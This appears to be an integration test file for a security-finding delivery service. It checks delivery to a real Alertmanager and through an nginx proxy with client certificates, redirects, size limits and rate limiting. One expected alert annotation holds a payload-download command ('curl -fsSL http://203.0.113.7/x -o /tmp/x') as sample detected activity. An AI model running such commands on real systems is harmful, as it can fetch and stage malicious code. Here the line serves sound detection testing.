import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDeliverer } from '../../src/deliver/dispatcher.ts';
import { openSink, type SinkConfig, sinkSchema } from '../../src/deliver/sinks/index.ts';
import { memoryStore } from '../../src/deliver/store/memory.ts';
import { holdingClock } from '../../src/lib/clock.ts';
import type { Delivery, Sink } from '../../src/model/delivery.ts';
import { silentLog } from '../../src/telemetry/log.ts';
import { createAuthority } from '../support/certificates.ts';
import { recordedEvents } from '../support/deliver.ts';
import { aFinding, findings } from '../support/finding.ts';
import { until } from '../support/fixtures.ts';
import { get } from '../support/lanner.ts';
import { tellSkipped } from '../support/real/system.ts';
import { openReceiver } from '../support/receiver.ts';

/** Programs of Debian's packages: in the PATH, or where ALERTMANAGER and NGINX say. */
const alertmanager = process.env.ALERTMANAGER ?? 'prometheus-alertmanager';
const nginx = process.env.NGINX ?? 'nginx';
const has = (program: string, flag: string) => spawnSync(program, [flag]).status === 0;
const [hasAlertmanager, hasNginx] = [has(alertmanager, '--version'), has(nginx, '-v')];
const missing = (there: boolean) => (there ? undefined : 'not installed (.ci/install-real.sh)');
tellSkipped('delivery to a real Alertmanager', missing(hasAlertmanager));
tellSkipped('delivery through a real nginx', missing(hasNginx));

const never = new AbortController().signal;
const delivery: Delivery = { id: 'f-1a2b3c:1:ops', sink: 'ops', finding: aFinding() };
const directory = mkdtempSync(join(tmpdir(), 'lanner-real-'));
const stops: (() => unknown)[] = [];
afterAll(async () => {
  for (const stop of stops.reverse()) await stop();
  rmSync(directory, { recursive: true, force: true });
});

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });
}

function open(config: object): Sink {
  const sink = openSink('ops', sinkSchema.parse(config) as SinkConfig, { clock: holdingClock });
  stops.push(() => sink.close());
  return sink;
}

async function isUp(url: string): Promise<void> {
  let up = false;
  const ask = () =>
    void get(url).then(
      () => {
        up = true;
      },
      () => setTimeout(ask, 50),
    );
  ask();
  await until(() => up, `${url} to answer`);
}

describe.skipIf(!hasAlertmanager)('a real Alertmanager (apt install prometheus-alertmanager)', () => {
  let base = '';
  const webhook = openReceiver();
  beforeAll(async () => {
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    const { url, close } = await webhook;
    stops.push(close);
    const config = join(directory, 'alertmanager.yml');
    writeFileSync(
      config,
      `route: {receiver: r, group_by: [alertname, namespace], group_wait: 100ms, group_interval: 100ms}
receivers: [{name: r, webhook_configs: [{url: "${url}"}]}]\n`,
    );
    const child = spawn(
      alertmanager,
      [
        `--config.file=${config}`,
        `--storage.path=${directory}/am`,
        `--web.listen-address=127.0.0.1:${port}`,
        '--cluster.listen-address=',
      ],
      { stdio: 'ignore' },
    );
    stops.push(() => child.kill('SIGKILL'));
    await isUp(`${base}/-/ready`);
  });

  const alerts = async () =>
    JSON.parse(await get(`${base}/api/v2/alerts`)) as {
      labels: Record<string, string>;
      annotations: Record<string, string>;
      startsAt: string;
      endsAt: string;
      status: { state: string };
    }[];

  it('takes findings, keeps them active, groups them and notifies', async () => {
    const sink = open({ type: 'alertmanager', urls: [base], labels: { team: 'sec' } });
    expect(await sink.send(delivery, never)).toMatchObject({ kind: 'delivered' });
    const batch = findings(3).map((finding, index) => ({
      id: `${finding.id}:1:ops`,
      sink: 'ops',
      finding: { ...finding, tool: `tool-${index}` },
    }));
    expect(await sink.send({ id: 'd_1', sink: 'ops', batch }, never)).toMatchObject({ kind: 'delivered' });
    const all = await alerts();
    expect(all).toHaveLength(4);
    expect(all.every((alert) => Date.parse(alert.endsAt) > Date.now())).toBe(true);
    expect(all.find((alert) => alert.labels.tool === 'curl')).toMatchObject({
      labels: { alertname: 'LannerFinding', severity: 'high', namespace: 'shop', team: 'sec' },
      annotations: { pod: 'web-7d9f', command: 'curl -fsSL http://203.0.113.7/x -o /tmp/x' },
    });
    const { received } = await webhook;
    await until(() => received.length > 0, 'its notification');
    const body = JSON.parse(received.at(-1)!.body.toString()) as { groupLabels: object; status: string };
    expect(body).toMatchObject({
      status: 'firing',
      groupLabels: { alertname: 'LannerFinding', namespace: 'shop' },
    });
  });

  it('resolves a status notice when the trouble is over', async () => {
    const sink = open({ type: 'alertmanager', urls: [base] });
    const notice = {
      schema: 'lanner.notice/v1',
      id: 'source_down:t:1',
      kind: 'source_down',
      state: 'started',
      severity: 'high',
      subject: 't',
      title: 'No events from t',
      detail: 'down',
      started: new Date(Date.now() - 60_000).toISOString(),
    } as const;
    await sink.send({ id: 'n:started', sink: 'ops', notice }, never);
    const active = async () =>
      (await alerts()).filter((alert) => alert.labels.alertname === 'LannerStatus').length;
    expect(await active()).toBe(1);
    await sink.send(
      {
        id: 'n:ended',
        sink: 'ops',
        notice: { ...notice, state: 'ended', ended: new Date().toISOString() },
      },
      never,
    );
    expect(await active()).toBe(0);
  });
});

describe.skipIf(!hasNginx)('a real nginx in front (apt install nginx)', () => {
  const authority = createAuthority();
  const server = authority.server(['127.0.0.1']);
  const client = authority.client('lanner');
  const file = (name: string) => join(directory, name);
  let port = 0;
  const upstream = openReceiver();

  beforeAll(async () => {
    port = await freePort();
    const { port: behind, close } = await upstream;
    stops.push(close);
    for (const [name, text] of Object.entries({
      ca: authority.cert,
      cert: server.cert,
      key: server.key,
      client: client.cert,
      client_key: client.key,
    })) {
      writeFileSync(file(name), text);
    }
    for (const name of ['body', 'proxy', 'fastcgi', 'uwsgi', 'scgi']) mkdirSync(file(name));
    writeFileSync(
      file('nginx.conf'),
      `daemon off; master_process off; pid ${file('pid')}; error_log ${file('error.log')};
events { worker_connections 64; }
http {
  access_log off; client_max_body_size 4k; client_body_temp_path ${file('body')}; proxy_temp_path ${file('proxy')};
  fastcgi_temp_path ${file('fastcgi')}; uwsgi_temp_path ${file('uwsgi')}; scgi_temp_path ${file('scgi')};
  limit_req_zone $remote_addr zone=slow:1m rate=1r/s; limit_req_status 429;
  server {
    listen 127.0.0.1:${port} ssl http2;
    ssl_certificate ${file('cert')}; ssl_certificate_key ${file('key')};
    ssl_client_certificate ${file('ca')}; ssl_verify_client on;
    location / { proxy_pass http://127.0.0.1:${behind}; proxy_set_header x-client $ssl_client_s_dn; proxy_set_header x-http $server_protocol; }
    location /moved { return 308 /elsewhere; }
    location /slow { limit_req zone=slow; proxy_pass http://127.0.0.1:${behind}; }
    location /down { proxy_pass http://127.0.0.1:1; }
  }
}\n`,
    );
    const child = spawn(nginx, ['-c', file('nginx.conf'), '-e', file('error.log')], { stdio: 'ignore' });
    stops.push(() => child.kill('SIGKILL'));
    await until(
      () =>
        spawnSync('sh', ['-c', `: < /dev/tcp/127.0.0.1/${port}`]).status === 0 ||
        spawnSync('bash', ['-c', `: < /dev/tcp/127.0.0.1/${port}`]).status === 0,
      'nginx',
    );
  });

  const tls = () => ({ ca_file: file('ca'), cert_file: file('client'), key_file: file('client_key') });
  const to = (path: string, more: object = {}) =>
    open({ type: 'webhook', url: `https://127.0.0.1:${port}${path}`, tls: tls(), ...more }).send(
      delivery,
      never,
    );

  it('sees our client certificate, over HTTP/2 and over HTTP/1.1', async () => {
    const { received } = await upstream;
    expect(await to('/')).toMatchObject({ kind: 'delivered' });
    expect(await to('/', { http2: false })).toMatchObject({ kind: 'delivered' });
    expect(received.map(({ headers }) => [headers['x-client'], headers['x-http']])).toEqual([
      ['CN=lanner', 'HTTP/2.0'],
      ['CN=lanner', 'HTTP/1.1'],
    ]);
  });

  it('refuses us without a certificate: that is retried or rejected, never delivered', async () => {
    const outcome = await open({
      type: 'webhook',
      url: `https://127.0.0.1:${port}/`,
      tls: { ca_file: file('ca') },
    }).send(delivery, never);
    expect(outcome.kind).not.toBe('delivered');
  });

  it.each([
    ['/moved', { kind: 'rejected', reason: 'redirect' }],
    ['/down', { kind: 'retry', reason: 'server_error' }],
  ])('answers %s as the table says', async (path, expected) => {
    expect(await to(path)).toMatchObject(expected);
  });

  it('refuses what is too large, and takes it compact', async () => {
    const large = aFinding({
      context: Array.from({ length: 60 }, () => ({
        time: '2026-11-22T12:00:00Z',
        kind: 'exec' as const,
        text: 'x'.repeat(100),
      })),
    });
    const recorded = recordedEvents();
    const deliverer = openDeliverer({
      sinks: [open({ type: 'webhook', url: `https://127.0.0.1:${port}/`, tls: tls() })],
      store: memoryStore(),
      log: silentLog,
      clock: holdingClock,
      random: Math.random,
      events: recorded.events,
    });
    await deliverer.accept(large, ['ops']);
    expect(await deliverer.drain(5_000)).toEqual({ delivered: 1, left: 0 });
    expect(recorded.of('attempted').map(({ args }) => (args[1] as { reason?: string }).reason)).toEqual([
      'too_large',
      undefined,
    ]);
  });

  it('throttles us, and everything arrives all the same', async () => {
    const { received } = await upstream;
    const before = received.length;
    const deliverer = openDeliverer({
      sinks: [open({ type: 'webhook', url: `https://127.0.0.1:${port}/slow`, tls: tls(), concurrency: 4 })],
      store: memoryStore(),
      log: silentLog,
      clock: holdingClock,
      random: Math.random,
      events: recordedEvents().events,
    });
    for (const finding of findings(4)) await deliverer.accept(finding, ['ops']);
    expect(await deliverer.drain(20_000)).toEqual({ delivered: 4, left: 0 });
    expect(received.length - before).toBe(4);
  }, 30_000);
});
